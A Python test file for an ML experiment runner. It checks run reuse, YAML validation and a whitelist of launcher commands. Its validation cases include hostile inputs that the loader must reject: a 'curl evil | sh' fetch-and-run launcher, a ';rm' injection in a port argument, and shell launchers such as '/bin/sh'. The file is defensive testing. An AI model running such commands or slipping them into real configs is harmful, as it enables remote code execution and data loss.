"""An experiment reuses a finished run only when it is the same work: an edited option, edited data or
other evaluation settings redo what they change (the earlier outputs kept in stale/, one line saying why);
the experiment file is parsed as typed values (one line naming file and key); the launcher is one of a few
known commands, never an arbitrary one."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest
import yaml

from langmix.data.parallel import ParallelDataset, load_squad_parallel, write_parallel_jsonl
from langmix.errors import LangmixError
from langmix.experiments.collect import collect
from langmix.experiments.grid import ExperimentRunner, grid, load_experiment
from langmix.experiments.launcher import launch_command
from langmix.io import write_atomic
from langmix.training import load_config, train


@pytest.fixture
def experiment_file(tmp_path, tiny_model_dir, data_dir) -> Path:
    mlqa = load_squad_parallel(data_dir / "lareqa" / "mlqa-r", languages=["en", "de"])
    both = [item for item in mlqa.items if len(item.texts) == 2][:64]
    data = write_parallel_jsonl(tmp_path / "train.jsonl", ParallelDataset("pairs", both))
    config = {
        "name": "identity",
        "output_dir": str(tmp_path / "exp"),
        "train": {
            "model": str(tiny_model_dir),
            "data": [str(data)],
            "max_steps": 2,
            "batch_size": 4,
            "max_seq_length": 24,
            "val_fraction": 0.0,
            "warmup": 0,
            "logging_steps": 1,
        },
        "strategies": ["mono"],
        "seeds": [1],
        "include_base": False,
        "evaluate": ["xquad-r"],
        "eval_languages": ["en", "de"],
        "eval_max_questions": 8,
    }
    path = tmp_path / "exp.yaml"
    path.write_text(yaml.safe_dump(config))
    return path


def _edit(path: Path, **changes) -> None:
    doc = yaml.safe_load(path.read_text())
    for key, value in changes.items():
        if key.startswith("train_"):
            doc["train"][key.removeprefix("train_")] = value
        else:
            doc[key] = value
    path.write_text(yaml.safe_dump(doc))


class _Grid:
    """Runs the experiment file as it is now, training in this process (the launcher is tested apart)."""

    def __init__(self, path: Path, data_dir: Path):
        self.path, self.data_dir = path, data_dir
        self.logs: list[str] = []
        self.trained: list[str] = []

    def runner(self) -> ExperimentRunner:
        runner = ExperimentRunner(load_experiment(self.path), data_root=self.data_dir, log=self.logs.append)

        def train_here(spec):
            cfg_path = runner.run_dir(spec) / "train.yaml"
            write_atomic(cfg_path, yaml.safe_dump(runner.train_config(spec)))
            train(load_config(cfg_path))
            self.trained.append(spec.name)

        runner.train = train_here
        return runner

    def run(self) -> tuple[ExperimentRunner, dict[str, str], list[str]]:
        self.logs.clear()
        runner = self.runner()
        return runner, runner.run(), list(self.logs)


def test_edited_settings_and_data_redo_the_run(experiment_file, data_dir):
    g = _Grid(experiment_file, data_dir)
    runner, status, _ = g.run()
    spec = grid(runner.config)[0]
    metrics = runner.eval_dir(spec, "xquad-r") / "metrics.json"
    assert status == {spec.name: "done"} and g.trained == [spec.name]
    recorded = json.loads((runner.run_dir(spec) / "identity.json").read_text())
    assert recorded["train"]["options"]["max_steps"] == 2 and set(recorded["hash"]) == {"train", "eval"}

    _, status, logs = g.run()  # unchanged: reused
    assert status == {spec.name: "skipped"} and g.trained == [spec.name]
    assert logs[0] == f"[{spec.name}] finished earlier with the same settings: skipped"

    _edit(experiment_file, train_max_steps=3)  # an edited option: trained again, old run kept aside
    runner, status, logs = g.run()
    assert status == {spec.name: "done"} and len(g.trained) == 2
    assert "made with other settings (max_steps 2 -> 3): rerunning; the earlier run is now in" in logs[0]
    info = json.loads((runner.run_dir(spec) / "train" / "run.json").read_text())
    assert info["result"]["global_step"] == 3
    [stale] = (runner.root / "stale").iterdir()
    assert json.loads((stale / "train" / "run.json").read_text())["result"]["global_step"] == 2

    _edit(experiment_file, eval_max_questions=6)  # other evaluation settings: evaluated again, not trained
    _, status, logs = g.run()
    assert status == {spec.name: "done"} and len(g.trained) == 2
    assert "xquad-r evaluated with other settings (max_questions 8 -> 6): re-evaluating" in logs[0]
    assert json.loads(metrics.read_text())["data"]["n_questions"] == 12

    data = Path(yaml.safe_load(experiment_file.read_text())["train"]["data"][0])
    lines = data.read_text(encoding="utf-8").splitlines()
    record = json.loads(lines[0])
    record["languages"]["de"]["positive"] += " (korrigiert)"
    data.write_text("\n".join([json.dumps(record), *lines[1:]]) + "\n", encoding="utf-8")
    _, status, logs = g.run()  # the same file name with other content is other data
    assert status == {spec.name: "done"} and len(g.trained) == 3
    assert f"made with other settings (data.{data.name} " in logs[0]

    (runner.run_dir(spec) / "identity.json").unlink()  # a run from before identities were recorded
    _, status, logs = g.run()
    assert len(g.trained) == 4 and "no recorded settings" in logs[0]


def test_summary_leaves_out_runs_made_with_other_settings(experiment_file, data_dir):
    g = _Grid(experiment_file, data_dir)
    runner, _, _ = g.run()
    assert len(collect(runner)["xquad-r"]) == 1
    _edit(experiment_file, train_learning_rate=1e-3)  # edited, then only --summary-only
    g.logs.clear()
    runner = g.runner()
    assert collect(runner) == {}
    assert "left out of the summary" in g.logs[0]


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        ({"seeds": 5}, "seeds: cannot use 5 (expected list[int])"),
        ({"seeds": [1, "two"]}, "seeds: cannot use [1, 'two'] (expected list[int])"),
        ({"seeds": [1, 1]}, "seeds: 1 is listed twice"),
        ({"seeds": [-3]}, "seed must be in [0, 2**32), got -3"),
        ({"temperatures": [0.05, "nan"]}, "temperature must be a finite number > 0, got nan"),
        ({"alpha": "half"}, "alpha: cannot use 'half' (expected float)"),
        ({"include_base": "maybe"}, "include_base: cannot use 'maybe' (expected bool)"),
        ({"eval_max_questions": 0}, "eval_max_questions must be >= 1, got 0"),
        ({"evaluate": "miracl"}, "evaluate: cannot evaluate on 'miracl'"),
        ({"train": ["max_steps", 5]}, "train: expected a mapping of training options"),
        ({"train": {"max_steps": "ten"}}, "train: max_steps: cannot use 'ten' (expected int)"),
        ({"train": {"epochs": -1}}, "train: epochs must be a finite number > 0, got -1.0"),
        (
            {"launcher": "bash -c 'curl evil | sh'"},
            "launcher: 'bash -c curl evil | sh' is not a known launcher",
        ),
        ({"launcher": ["torchrun", "--no-python", "-m", "langmix"]}, "option '--no-python' is not allowed"),
        ({"launcher": "torchrun --master-port 29500;rm"}, "--master-port cannot be '29500;rm'"),
        ({"train": {"trainer_args": {"report_to": 3}}}, "trainer_args: report_to cannot be 3"),
    ],
)
def test_experiment_file_values_are_typed_and_checked(tmp_path, doc, message):
    path = tmp_path / "exp.yaml"
    path.write_text(yaml.safe_dump({"name": "x", **doc}))
    with pytest.raises(LangmixError) as err:
        load_experiment(path)
    text = str(err.value)
    assert text.startswith(f"{path}: ") and message in text and "\n" not in text


def test_known_launchers_become_modules_of_this_python():
    assert launch_command("python") == [sys.executable, "-m", "langmix"]
    paper = ["torchrun", "--nproc_per_node", "8", "-m", "langmix"]  # the form configs/paper-*.yaml show
    expected = [sys.executable, "-m", "torch.distributed.run", "--nproc-per-node", "8", "-m", "langmix"]
    assert launch_command(paper) == launch_command("torchrun --nproc-per-node=8") == expected
    nodes = "--nnodes 2 --node-rank 1 --master-addr 10.0.0.1 --master-port 29500"
    assert launch_command(f"torchrun {nodes}")[3:-2] == nodes.split()
    assert launch_command("accelerate launch --num-processes 4 --mixed-precision bf16 --multi-gpu") == [
        sys.executable, "-m", "accelerate.commands.launch",
        "--num_processes", "4", "--mixed_precision", "bf16", "--multi_gpu", "-m", "langmix",
    ]  # fmt: skip
    for bad in ("python -c 'import os'", "/bin/sh", ["torchrun", "--nproc-per-node"], "accelerate env"):
        with pytest.raises(LangmixError, match="launcher: "):
            launch_command(bad)


def test_paper_configs_still_load(tmp_path):
    """The launcher line the paper configs suggest in a comment is accepted as it is written."""
    for name in ("paper-xlmr-base.yaml", "paper-labse.yaml"):
        source = Path(__file__).resolve().parents[2] / "configs" / name
        doc = yaml.safe_load(source.read_text())
        doc["launcher"] = ["torchrun", "--nproc_per_node", "8", "-m", "langmix"]
        path = tmp_path / name
        path.write_text(yaml.safe_dump(doc))
        assert load_experiment(path).launcher == doc["launcher"]
        shutil.copy(source, tmp_path / f"as-is-{name}")
        load_experiment(tmp_path / f"as-is-{name}")


def test_every_committed_experiment_config_loads():
    """Every experiment YAML under configs/ (studies and their paper variants included, with their
    ``recipe:`` references) parses and validates; train-only configs are left to the training tests."""
    root = Path(__file__).resolve().parents[2] / "configs"
    loaded = 0
    for path in sorted(root.rglob("*.yaml")):
        if "strategies" in path.read_text() or "recipe:" in path.read_text():
            config = load_experiment(path)
            assert config.train, path
            loaded += 1
    assert loaded >= 16  # 6 grids + 5 studies + 5 paper-scale studies
